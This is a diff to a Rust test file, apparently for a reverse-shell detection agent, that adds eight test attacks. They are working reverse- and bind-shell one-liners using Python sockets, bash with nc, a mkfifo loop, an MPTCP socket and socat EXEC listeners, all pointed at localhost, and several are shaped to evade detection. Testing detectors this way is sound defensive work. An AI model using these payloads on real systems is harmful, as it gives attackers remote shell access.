@@ -3,6 +3,7 @@
 
 use vedette_tests::{
     agent::{Agent, Finding, PATIENCE, Stopped, summary},
+    http::free_port,
     listener::{FIRST_COMMAND_AFTER, Wire},
     need::Need,
     process::{alive, wait_for},
@@ -202,6 +203,89 @@ while((s|&getline c)>0){{print c|&"{sh}";"{sh}"|&getline l;print l|&s}}}}'"#
 })
 .born_of_a_command();
 
+/// An interpreter's own options, and a way to standard input that nobody writes.
+const ODD_ARGUMENTS: Attack = Attack::new(&["python3"], |tools, port| {
+    let (python, bash) = (tools.get("python3"), tools.get("bash"));
+    format!(
+        r#"{python} -W ignore -c 'import socket,subprocess,threading
+s=socket.create_connection(("127.0.0.1",{port}))
+p=subprocess.Popen(["{bash}","-norc","/dev/fd/../fd/0"],stdin=subprocess.PIPE,stdout=subprocess.PIPE,stderr=subprocess.STDOUT,bufsize=0)
+def there():
+    while d:=s.recv(4096): p.stdin.write(d)
+    p.stdin.close()
+threading.Thread(target=there,daemon=True).start()
+while d:=p.stdout.read(4096): s.sendall(d)'"#
+    )
+});
+
+/// What the shell reads is a file to it.
+const SUBSTITUTED: Attack = Attack::new(&["nc"], |tools, port| {
+    let [bash, sleep, nc] = ["bash", "sleep", "nc"].map(|name| tools.get(name));
+    format!("{bash} -c '{bash} <({sleep} 60 | {nc} 127.0.0.1 {port}) | {nc} 127.0.0.1 {port}'")
+});
+
+/// The same, as a fifo.
+const FIFO_AS_SCRIPT: Attack = Attack::new(&["nc"], |tools, port| {
+    let [mkfifo, bash, nc] = ["mkfifo", "bash", "nc"].map(|name| tools.get(name));
+    let fifo = tools.scratch("f");
+    format!("{mkfifo} {fifo}; {bash} {fifo} 2>&1 | {nc} 127.0.0.1 {port} > {fifo}")
+});
+
+/// A protocol that the kernel does not count as TCP.
+const MULTIPATH: Attack = Attack::new(&["python3"], |tools, port| {
+    let (python, sh) = (tools.get("python3"), tools.get("sh"));
+    format!(
+        r#"{python} -c 'import socket,os
+try: s=socket.socket(socket.AF_INET,socket.SOCK_STREAM,262)
+except OSError: s=socket.socket()
+s.connect(("127.0.0.1",{port}))
+[os.dup2(s.fileno(),fd) for fd in (0,1,2)]
+os.execv("{sh}",["{sh}"])'"#
+    )
+})
+.by_an_interpreter();
+
+/// The remote end's connection to a port on which a shell is waited with.
+fn call(tools: &Tools, bound: u16, port: u16) -> String {
+    let socat = tools.get("socat");
+    format!("{socat} TCP:127.0.0.1:{bound},retry=100,interval=0.1 TCP:127.0.0.1:{port}")
+}
+
+const BOUND_SOCAT: Attack = Attack::new(&["socat"], |tools, port| {
+    let (socat, sh, bound) = (tools.get("socat"), tools.get("sh"), free_port());
+    let call = call(tools, bound, port);
+    format!("{socat} TCP-LISTEN:{bound},reuseaddr,fork EXEC:{sh} &\n{call}")
+});
+
+const BOUND_SOCAT_ONCE: Attack = Attack::new(&["socat"], |tools, port| {
+    let (socat, bash, bound) = (tools.get("socat"), tools.get("bash"), free_port());
+    let call = call(tools, bound, port);
+    format!("{socat} TCP-LISTEN:{bound},reuseaddr EXEC:'{bash} -norc',pipes &\n{call}")
+});
+
+const BOUND_SOCAT_COMMAND: Attack = Attack::new(&["socat"], |tools, port| {
+    let (socat, sh, bound) = (tools.get("socat"), tools.get("sh"), free_port());
+    let call = call(tools, bound, port);
+    format!("{socat} TCP-LISTEN:{bound},reuseaddr,fork SYSTEM:'exec {sh}' &\n{call}")
+});
+
+const BOUND_PYTHON: Attack = Attack::new(&["python3", "socat"], |tools, port| {
+    let (python, sh, bound) = (tools.get("python3"), tools.get("sh"), free_port());
+    let call = call(tools, bound, port);
+    format!(
+        r#"{python} -c 'import socket,subprocess,threading
+l=socket.create_server(("127.0.0.1",{bound}))
+s,_=l.accept()
+p=subprocess.Popen(["{sh}"],stdin=subprocess.PIPE,stdout=subprocess.PIPE,stderr=subprocess.PIPE,bufsize=0)
+def there():
+    while d:=s.recv(4096): p.stdin.write(d)
+    p.stdin.close()
+threading.Thread(target=there,daemon=True).start()
+while d:=p.stdout.read(4096): s.sendall(d)' &
+{call}"#
+    )
+});
+
 /// Without any agent: an attack that yields no shell would prove nothing.
 fn control(attack: &Attack, place: Place, names: Names) {
     let shell = attack.start(place, names);
@@ -398,4 +482,12 @@ everywhere! {
     two_connections => TWO_CONNECTIONS,
     zsh => ZSH,
     gawk => GAWK,
+    odd_arguments => ODD_ARGUMENTS,
+    substituted => SUBSTITUTED,
+    fifo_as_script => FIFO_AS_SCRIPT,
+    multipath => MULTIPATH,
+    bound_by_socat => BOUND_SOCAT,
+    bound_by_socat_once => BOUND_SOCAT_ONCE,
+    bound_by_socat_with_a_command => BOUND_SOCAT_COMMAND,
+    bound_by_python => BOUND_PYTHON,
 }
